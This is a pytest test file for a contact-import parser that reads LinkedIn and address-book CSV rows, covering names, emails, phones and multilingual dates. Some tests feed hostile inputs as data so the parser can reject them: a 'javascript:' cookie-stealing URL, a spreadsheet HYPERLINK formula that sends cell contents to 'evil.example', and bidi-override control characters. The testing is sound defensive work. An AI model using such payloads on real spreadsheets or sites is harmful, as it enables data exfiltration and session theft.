"""One row becomes one person: nothing is taken that could do harm, and nothing is left out without a word."""

from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from talent.transfer.reading import (
    Field,
    Reason,
    Recipe,
    Row,
    day_comes_first,
    guess_mapping,
    parse_date,
    parse_row,
    reason_sentence,
)

LINKEDIN = ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"]


def parsed(header, cells, **settings):
    return parse_row(Row(7, cells, []), Recipe(guess_mapping(header, [cells]), **settings))


def linkedin(**cells):
    named = {
        "first": "Jordan",
        "last": "Lee",
        "url": "https://www.linkedin.com/in/jordanlee",
        "email": "",
        "company": "Acme",
        "position": "VP",
    }
    return parsed(LINKEDIN, [*(named | cells).values(), "12 Mar 2025"])


def identities(row):
    return [identity.canonical for identity in row.identities]


def reasons(row):
    return [remark.reason for remark in row.remarks]


class TestLinkedIn:
    def test_a_usual_row(self):
        row = linkedin(last="Smith, PhD", email="Jordan@Example.org")
        assert (row.line, row.rejected, row.remarks) == (7, None, [])
        assert (row.name.display, row.name.credentials) == ("Jordan Smith", "PhD")
        assert identities(row) == ["linkedin.com/in/jordanlee", "jordan@example.org"]
        assert (row.employer, row.title, row.connected_on) == ("Acme", "VP", date(2025, 3, 12))

    @pytest.mark.parametrize(
        ("cells", "reason"),
        [
            (["", "", "", "", "", "", "30 Apr 2026"], Reason.ACCOUNT_CLOSED),
            (["", "", "", "", "Acme", "", "30 Apr 2026"], Reason.NOBODY),
            (["", "", "", "info@acme.example", "Acme", "", ""], Reason.ORGANISATION),
            (["", "", "javascript:alert(1)", "", "", "", ""], Reason.NOBODY),
            (["", "", "", "", "", "", "soon"], Reason.NOBODY),
            ([" ", "\u200b", "", "", "", "", ""], Reason.NOBODY),
            (["", "", "", "", "", "", ""], Reason.EMPTY),
        ],
    )
    def test_a_row_without_a_person_says_why(self, cells, reason):
        assert parsed(LINKEDIN, cells).rejected is reason
        assert reason_sentence(reason).endswith(".")

    def test_a_closed_account_is_explained(self):
        assert reason_sentence(Reason.ACCOUNT_CLOSED) == "This row has a date but no name: the account was closed."

    def test_a_hostile_address_is_left_out_and_the_person_stays(self):
        row = linkedin(url="javascript:alert(document.cookie)")
        assert (row.name.display, row.identities, row.rejected) == ("Jordan Lee", [], None)
        (remark,) = row.remarks
        assert remark == (Reason.BAD_PROFILE, 2, "javascript:alert(document.cookie)")
        assert "javascript:alert(document.cookie)" in reason_sentence(remark.reason, text=remark.text)

    def test_a_formula_gives_no_address_even_if_one_stands_inside(self):
        formula = '=HYPERLINK("https://evil.example/?"&A1, "https://www.linkedin.com/in/eve eve@evil.example")'
        row = linkedin(url=formula, email=formula)
        assert (row.identities, reasons(row)) == ([], [Reason.FORMULA, Reason.FORMULA])

    def test_a_formula_where_text_stands_is_plain_text(self):
        row = linkedin(company="=1+1", position="@lead", last="+Lee-")
        assert (row.employer, row.title, row.name.display) == ("=1+1", "@lead", "Jordan +Lee-")
        assert reasons(row) == [Reason.FORMULA_KEPT]

    @pytest.mark.parametrize(
        ("last", "display"),
        [
            ("MÃ¼ller", "Jordan Müller"),
            ("Lee 🌱", "Jordan Lee 🌱"),
            ("GarcÃ\xada, MBA", "Jordan García"),
            ("\u202eeeL\x00", "Jordan eeL"),
        ],
    )
    def test_names_are_cleaned(self, last, display):
        assert linkedin(last=last).name.display == display

    def test_misread_letters_are_mended_in_every_line(self):
        assert linkedin(company="MÃ¼ller AG").employer == "Müller AG"

    def test_percent_signs_in_an_address_are_read(self):
        assert identities(linkedin(url="www.linkedin.com/in/j%C3%B6rg-%C2%AE?x=1")) == ["linkedin.com/in/jörg-®"]

    def test_without_a_name_the_address_is_shown(self):
        row = linkedin(first="", last="", url="", email="jordan@example.org")
        assert (row.name.display, reasons(row)) == ("jordan@example.org", [Reason.NAME_FROM_IDENTITY])

    def test_without_a_name_the_address_of_one_person_is_shown_rather_than_a_number(self):
        row = parsed(["Name", "Phone", "Mail", "Company"], ["", "+49 30 123456", "jo@acme.example", "Acme"])
        assert (row.name.display, row.rejected) == ("jo@acme.example", None)


class TestAnOrganisation:
    """A row of an address book that says where and on which number, but not who, tells of no person."""

    HEADER = ("Name", "Phone", "Company", "Job title", "Id")

    @pytest.mark.parametrize(
        ("title", "number", "reason"),
        [("", "", Reason.ORGANISATION), ("Head nurse", "", None), ("", "4711", None)],
    )
    def test_is_left_out_unless_something_is_said_of_somebody(self, title, number, reason):
        assert parsed(list(self.HEADER), ["", "+49 30 123456", "Acme", title, number]).rejected is reason


class TestAnyTable:
    def test_several_addresses_in_a_cell_or_in_columns_are_all_taken_once(self):
        header = ["Name", "E-mail 1 - Value", "E-mail 2 - Value", "Phone 1 - Value"]
        row = parsed(
            header, ["Jo", "a@x.org ::: B@x.org", "b@x.org; nobody", "030 123456 ::: +1 202 555 0143"], region="DE"
        )
        assert identities(row) == ["a@x.org", "b@x.org", "+4930123456", "+12025550143"]
        assert [(remark.reason, remark.column, remark.text) for remark in row.remarks] == [
            (Reason.BAD_EMAIL, 2, "nobody")
        ]

    @pytest.mark.parametrize(
        "cell",
        ["Jo Doe <jo@x.org>", '"Doe, Jo" <mailto:jo@x.org>', "<jo@x.org>", "jo@x.org ::: Jo <JO@x.org>"],
    )
    def test_of_a_name_with_an_address_in_brackets_the_address_is_taken(self, cell):
        row = parsed(["Name", "E-mail"], ["Jo", cell])
        assert [(one.raw.lower(), one.canonical) for one in row.identities] == [("jo@x.org", "jo@x.org")]
        assert row.remarks == []

    def test_what_is_no_address_at_all_is_told_once(self):
        row = parsed(["Name", "E-mail"], ["Jo", "/o=Exchange/ou=Administrative Group/cn=jo"])
        assert [(one.reason, one.text) for one in row.remarks] == [
            (Reason.BAD_EMAIL, "/o=Exchange/ou=Administrative Group/cn=jo")
        ]

    def test_a_comma_or_slash_before_a_plus_parts_two_numbers(self):
        row = parsed(["Name", "Phone"], ["Jo", "+34 600 000 001,+34 600 000 002 / +49 30 1234567"])
        assert identities(row) == ["+34600000001", "+34600000002", "+49301234567"]

    def test_a_national_number_without_a_country_is_left_out_with_a_word(self):
        assert reasons(parsed(["Name", "Phone"], ["Jo", "030 123456"])) == [Reason.BAD_PHONE]

    def test_extra_cells_are_told(self):
        row = parse_row(Row(2, ["Jo"], ["", "more"]), Recipe({0: Field.DISPLAY_NAME}))
        assert reasons(row) == [Reason.EXTRA_CELLS]

    def test_long_text_is_shortened_with_a_word(self):
        row = parsed(["Name", "Company", "Notes"], ["x" * 201, "y" * 301, "line\n" * 3000])
        assert reasons(row) == [Reason.CUT] * 3
        assert (len(row.name.display), len(row.employer), len(row.note)) == (200, 300, 9999)

    def test_a_row_with_a_problem_is_rejected_for_it(self):
        assert parse_row(Row(2, [], [], Reason.ROW_TOO_LONG), Recipe({})).rejected is Reason.ROW_TOO_LONG

    def test_a_mapping_wider_than_the_row_does_no_harm(self):
        assert parse_row(Row(2, ["Jo"], []), Recipe({0: Field.DISPLAY_NAME, 9: Field.EMAIL})).name.display == "Jo"

    @given(
        st.lists(st.text(max_size=30), min_size=12, max_size=12),
        st.sampled_from([None, "US"]),
        st.sampled_from([None, True, False]),
    )
    def test_wild_cells_never_fail(self, cells, region, day_first):
        row = parse_row(Row(1, cells, []), Recipe(dict(enumerate(Field)), region, day_first))
        assert row.rejected or row.name.display


class TestColumns:
    @pytest.mark.parametrize(
        ("header", "fields"),
        [
            (
                "First Name|Last Name|URL|Email Address|Company|Position|Connected On",
                "given family url email employer title met",
            ),
            (
                "first_name|last_name|gender|title|background|first_seen|linkedin_url|company|email_work",
                "given family - title note met url employer email",
            ),
            (
                "First Name|Middle Name|Last Name|Organization Name|Organization Title|E-mail 1 - Label|E-mail 1 - Value|Phone 1 - Label|Phone 1 - Value|Website 1 - Value",
                "given given family employer title - email - phone url",
            ),
            (
                "First Name|Title|Job Title|Assistant's Phone|Mobile Phone|Home Fax|Business City",
                "given - title - phone - location",
            ),
            (
                "Vorname|Nachname|E-Mail|Telefon|Firma|Position|Ort|Notizen|Kennengelernt am",
                "given family email phone employer title location note met",
            ),
            ("Vorname|Name|Handy|Arbeitgeber", "given family phone employer"),
            (
                "Prénom|Nom|Courriel|Téléphone|Entreprise|Poste|Ville|Remarques",
                "given family email phone employer title location note",
            ),
            (
                "Nombre|Apellidos|Correo electrónico|Teléfono|Empresa|Cargo|Ciudad|Notas",
                "given family email phone employer title location note",
            ),
            (
                "Voornaam|Achternaam|E-mailadres|Telefoon|Bedrijf|Functie|Woonplaats|Opmerkingen",
                "given family email phone employer title location note",
            ),
            ("ID|NAME|E-Mail Opt-out|Photo URL|LinkedIn Profile", "id name - - url"),
        ],
    )
    def test_names_in_five_languages_are_known(self, header, fields):
        short = {
            "given": "given_name",
            "family": "family_name",
            "url": "profile_url",
            "met": "connected_on",
            "id": "external_id",
            "name": "display_name",
        }
        columns = header.split("|")
        expected = {index: Field(short.get(name, name)) for index, name in enumerate(fields.split()) if name != "-"}
        assert guess_mapping(columns, []) == expected

    def test_columns_are_known_by_the_look_of_their_cells(self):
        sample = [["jo@x.org", "https://a.example/jo", "+49 30 123456", "12"], ["", "www.b.example", "", ""]]
        assert guess_mapping(["A", "B", "C", "D"], sample) == {0: Field.EMAIL, 1: Field.PROFILE_URL, 2: Field.PHONE}

    def test_a_column_called_email_without_addresses_is_none(self):
        assert guess_mapping(["Name", "Email"], [["Jo", "yes"], ["Ann", "no"], ["Kim", "yes"]]) == {
            0: Field.DISPLAY_NAME
        }


class TestDates:
    @pytest.mark.parametrize(
        "text",
        ["12 Mar 2025", "12 March 2025", "12-Mar-25", "Mar 12, 2025", "March 12th 2025", "12. März 2025", "12 mars 2025", "12 de marzo de 2025",
         "2025-03-12", "2025-03-12T19:04:59Z", "2025/3/12", "12.03.2025", "12.3.25", "2025-03-12 19:04:59 UTC"],
    )  # fmt: skip
    def test_people_s_spellings_of_one_day(self, text):
        assert parse_date(text) == date(2025, 3, 12)

    @pytest.mark.parametrize(
        ("text", "day_first", "expected"),
        [
            ("31/12/2024", None, date(2024, 12, 31)),
            ("12/31/2024", None, date(2024, 12, 31)),
            ("8/20/26, 8:13 AM", None, date(2026, 8, 20)),
            ("03/04/2025", True, date(2025, 4, 3)),
            ("03/04/2025", False, date(2025, 3, 4)),
            ("05/05/2025", None, date(2025, 5, 5)),
        ],
    )
    def test_day_and_month_are_told_apart_where_it_is_certain(self, text, day_first, expected):
        assert parse_date(text, day_first=day_first) == expected

    @pytest.mark.parametrize(
        "text",
        ["", "soon", "03/04/2025", "31 Feb 2025", "12 Foo 2025", "2025-13-01", "1/1/0001", "45000"],
    )
    def test_what_is_no_certain_day_is_none(self, text):
        with pytest.raises(ValueError):  # noqa: PT011 (any will do)
            parse_date(text)

    def test_an_unclear_date_is_left_out_with_a_word(self):
        row = parsed(["Name", "Met on"], ["Jo", "03/04/2025"])
        assert (row.connected_on, reasons(row)) == (None, [Reason.DATE_UNCLEAR])

    @pytest.mark.parametrize(
        ("cells", "answer"),
        [
            (["01/02/2024", "31/12/2024", ""], True),
            (["01/02/2024", "12/31/2024", "x"], False),
            (["01/02/2024", "31.12.2024"], None),
            (["31/12/2024", "12/31/2024"], None),
        ],
    )
    def test_a_column_decides_for_all_its_dates(self, cells, answer):
        assert day_comes_first(cells) is answer


def test_every_reason_has_a_sentence():
    for reason in Reason:
        assert reason_sentence(reason, text="100% x").endswith(".")
